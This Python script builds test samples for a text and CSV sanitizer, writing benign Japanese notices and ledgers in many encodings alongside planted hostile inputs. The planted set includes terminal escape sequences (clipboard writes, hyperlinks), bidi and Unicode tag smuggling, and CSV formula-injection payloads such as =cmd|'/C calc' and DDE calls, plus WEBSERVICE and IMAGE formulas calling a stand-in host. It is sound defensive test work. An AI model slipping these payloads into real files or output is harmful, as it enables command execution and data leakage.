#!/usr/bin/python3
"""Make the samples of text and CSV: samples/{benign,planted}/{text,csv}.

Usage: text.py [ROOT]        deterministic; standard library only.

Benign samples hold the marker SEKISHO-BENIGN-<what>, which must survive.
Planted ones hold SEKISHO-CANARY-<what> inside what must go (text), or behind
a formula that must not run (CSV: there the canary stays as inert text and the
marker of the attack is the formula sign at the beginning of a field).
"""
import os
import sys

ROOT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")

NOTICE = """令和8年度 住民説明会の開催について
SEKISHO-BENIGN-{what}

　日頃より市政にご協力いただき、ありがとうございます。
　下記のとおり住民説明会を開催しますので、ご参加ください。

記
１　日時　　令和8年4月10日（金）午後2時から
２　場所　　市役所本庁舎3階　大会議室
３　問合せ　総務課（電話 03-1234-5678）
"""

LEDGER = """番号,氏名,フリガナ,住所,金額,増減,電話番号,登録日,備考
0001,山田　太郎,ﾔﾏﾀﾞ ﾀﾛｳ,東京都千代田区霞が関1-2-3,"1,500",-20,03-1234-5678,2026/04/01,SEKISHO-BENIGN-{what}
0002,鈴木　花子,ｽｽﾞｷ ﾊﾅｺ,北海道札幌市中央区北1条西2,-300,+1.5%,+81-11-123-4567,令和8年4月2日,-
0003,佐藤　次郎,ｻﾄｳ ｼﾞﾛｳ,"福岡市
中央区天神",0,---,092-123-4567,2026/04/03,"""  # the last line is completed below
LEDGER_END = "\"「至急」と\"\"赤字\"\"あり\"\n"

CHARSETS = [("utf8", "utf-8"), ("cp932", "cp932"), ("eucjp", "euc_jp"), ("jis", "iso2022_jp_ext"), ("utf16le", "utf-16-le"), ("utf16be", "utf-16-be")]


def put(kind, family, name, data):
    folder = os.path.join(ROOT, "samples", kind, family)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


def encode(text, codec):
    mark = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.get(codec, b"")
    return mark + text.encode(codec)


def benign_text():
    for name, codec in CHARSETS:
        put("benign", "text", "notice-%s.txt" % name, encode(NOTICE.format(what=name), codec))
    crlf = NOTICE.format(what="crlf").replace("\n", "\r\n")
    put("benign", "text", "notice-crlf-bom.txt", b"\xef\xbb\xbf" + crlf.encode())
    put("benign", "text", "notice-mac.txt", NOTICE.format(what="mac").replace("\n", "\r").encode("cp932"))
    gaiji = "外字を含む氏名簿 SEKISHO-BENIGN-gaiji\r\n".encode("cp932")
    for hi in range(0xF0, 0xFA):
        gaiji += "氏名：".encode("cp932") + bytes([hi, 0x40, hi, 0x7E, hi, 0x80, hi, 0xFC]) + b"\r\n"
    put("benign", "text", "gaiji-cp932.txt", gaiji)
    put("benign", "text", "names-utf8.txt",
        "辻\U000e0100さん 葛\U000e0101城市 髙橋 﨑山 𠮷野家 SEKISHO-BENIGN-names\n👨\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3\n外字\ue000\n".encode())
    put("benign", "text", "vendor-cp932.txt",
        "①②③ⅠⅡⅢ㈱㈲℡㍉㌔ ～－∥ SEKISHO-BENIGN-vendor\r\n表示ソース能力\r\n".encode("cp932"))
    put("benign", "text", "empty.txt", b"")
    put("benign", "text", "ascii.log", b"2026-04-01 12:00:00 INFO started SEKISHO-BENIGN-log\n2026-04-01 12:00:01 WARN a<b && c>d\n")
    put("benign", "text", "readme.md", "# 手順\n\n- 一つ目 SEKISHO-BENIGN-md\n- 二つ目 `<b>`\n\n| 列 | 値 |\n|---|---|\n| a | -1 |\n".encode())
    put("benign", "text", "kana-cp932.txt", "ｺｳｻﾞﾒｲｷﾞ ﾔﾏﾀﾞﾀﾛｳ\r\nSEKISHO-BENIGN-kana\r\n".encode("cp932"))


def planted_text():
    def c(what):
        return "SEKISHO-CANARY-" + what
    t = "普通の文章です。SEKISHO-BENIGN-esc\n"
    t += "\x1b]0;%s\x07見出し\n" % c("title")
    t += "\x1b]8;;http://x.example/%s\x1b\\押してください\x1b]8;;\x1b\\\n" % c("osc8")
    t += "\x1b]52;c;%s\x07コピー\n" % c("osc52")
    t += "\x1bP$q%s\x1b\\\x1b_%s\x1b\\\x1b^%s\x1b\\\x1bX%s\x1b\\終\n" % (c("dcs"), c("apc"), c("pm"), c("sos"))
    t += "\x1b[2J\x1b[31m赤\x1b[0m\x1b[6n\x1bc\n"
    put("planted", "text", "terminal-utf8.txt", t.encode())
    put("planted", "text", "terminal-cp932.txt", t.encode("cp932"))
    put("planted", "text", "c1-utf8.txt", ("文章 SEKISHO-BENIGN-c1\n\u009d8;;%s\u009c\u009b31m赤\n" % c("c1osc")).encode())
    hidden = "".join(chr(0xE0000 + ord(ch)) for ch in c("tags"))
    t = "指示\u202efdp.exe\u202c SEKISHO-BENIGN-hidden\nゼロ\u200b幅\u2060\ufeff\u00ad文字\u3164\uffa0\n%s\ufff9a\ufffab\ufffb\ufdd0\n" % hidden
    put("planted", "text", "hidden-utf8.txt", t.encode())
    put("planted", "text", "hidden-utf16le.txt", encode(t, "utf-16-le"))
    put("planted", "text", "controls.txt", b"over\x08\x08\x08\x08write SEKISHO-BENIGN-ctl\ngood\revil\nNUL\0NUL\x01\x7f\npage\x0cnext\n\x1a")
    put("planted", "text", "selectors-utf8.txt", ("絵文字😀" + "".join(chr(0xE0100 + b) for b in b"SEKISHO-CANARY-selectors") + " SEKISHO-BENIGN-vs\n").encode())
    put("planted", "text", "jis-escape.txt",
        b"\x1b$B" + "日本語".encode("euc_jp").translate(bytes(b & 0x7F for b in range(256))) + b"\x1b(B\x1b]0;SEKISHO-CANARY-jis\x07 SEKISHO-BENIGN-jis\n")
    put("planted", "text", "html.txt", b"\x1b[0m<html><script>SEKISHO-CANARY-html</script>\n")
    put("planted", "text", "shell.txt", b"#!/bin/sh\necho SEKISHO-CANARY-shell\n")
    put("planted", "text", "shortcut.txt", b"[InternetShortcut]\r\nURL=http://x.example/SEKISHO-CANARY-url\r\n")
    put("planted", "text", "binary.txt", bytes(range(256)) * 4)


def benign_csv():
    ledger = LEDGER + LEDGER_END
    for name, codec in CHARSETS[:3]:
        data = ledger.format(what="csv-" + name).replace("\n", "\r\n").encode(codec)
        put("benign", "csv", "ledger-%s.csv" % name, data)
    put("benign", "csv", "ledger-bom.csv", b"\xef\xbb\xbf" + ledger.format(what="csv-bom").encode())
    tabs = "番号\t氏名\t金額\r\n0001\t山田, 太郎\t-1500\r\nSEKISHO-BENIGN-tsv\t鈴木\t+3\r\n"
    put("benign", "csv", "list-utf16le.tsv", encode(tabs, "utf-16-le"))
    put("benign", "csv", "list-cp932.tsv", tabs.encode("cp932"))
    put("benign", "csv", "semicolon.csv", b"a;b;c\n-1;2;SEKISHO-BENIGN-semi\n")
    put("benign", "csv", "single.csv", "氏名\r\n山田\r\nSEKISHO-BENIGN-single\r\n".encode("cp932"))
    put("benign", "csv", "safe-already.csv", b"a,'=1+1,\"'@SUM(1)\"\nSEKISHO-BENIGN-safe,x,y\n")


PAYLOADS = ["=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!D2", "@SUM(1+1)*cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.example/{c}\",\"押す\")",
            "=WEBSERVICE(\"http://x.example/{c}\")", "=IMPORTXML(\"http://x.example/{c}\",\"//a\")", "=IMAGE(\"http://x.example/{c}\")",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", "=DDE(\"cmd\",\"/C {c}\",\"x\")", "＝1＋cmd|'{c}'!A1", "\t=1+1", "  =1+1", "\n=1+1", "=1+1", "+A1", "-A1", "@A1", "|{c}"]


def quote(s):
    return '"' + s.replace('"', '""') + '"'


def planted_csv():
    lines = ["種別,内容,印"]
    for i, p in enumerate(PAYLOADS):
        text = p.format(c="SEKISHO-CANARY-%d" % i)
        lines.append("%d,%s,SEKISHO-BENIGN-p%d" % (i, quote(text), i))
    data = "\r\n".join(lines) + "\r\n"
    put("planted", "csv", "payloads-utf8.csv", data.encode())
    put("planted", "csv", "payloads-cp932.csv", data.encode("cp932"))
    put("planted", "csv", "payloads-utf16le.tsv", encode("\r\n".join("x\t" + p.format(c="y").strip() + "\tz" for p in PAYLOADS) + "\r\n", "utf-16-le"))
    put("planted", "csv", "other-separators.csv", b"a,b\nx;=1+1,SEKISHO-BENIGN-sep\ny|=2+2,z\tz\n\"p;=3+3\",\"q\n=4+4\"\n")
    put("planted", "csv", "separator-line.csv", b"sep=;\na;=1+1;SEKISHO-BENIGN-sepline\n")
    put("planted", "csv", "separator-odd.csv", b"sep=x\nax=1+1xSEKISHO-BENIGN-odd\n")
    put("planted", "csv", "id-first.csv", "ID,氏名\r\n1,山田 SEKISHO-BENIGN-id\r\n".encode("cp932"))
    put("planted", "csv", "table-first.csv", b"TABLE,x\n1,SEKISHO-BENIGN-table\n")
    put("planted", "csv", "excel-text.csv", b"code,name\n=\"001\",SEKISHO-BENIGN-idiom\n\"=\"\"002\"\"\",b\n")
    put("planted", "csv", "unpaired.csv", b"a,\"b,=1+1\nc,SEKISHO-BENIGN-quote\n")
    put("planted", "csv", "html.csv", b"<table><tr><td>=SEKISHO-CANARY-htmlcsv</td></tr></table>\n")
    put("planted", "csv", "sylk.csv", b"ID;PWXL;N;E\r\nC;Y1;X1;K\"x\";ESEKISHO-CANARY-sylk\r\nE\r\n")
    put("planted", "csv", "zero-width.csv", "a,b\n\u200b=1+1,\u202e-cmd|'x'!A1\nSEKISHO-BENIGN-zw,x\n".encode())


for make in (benign_text, planted_text, benign_csv, planted_csv):
    make()
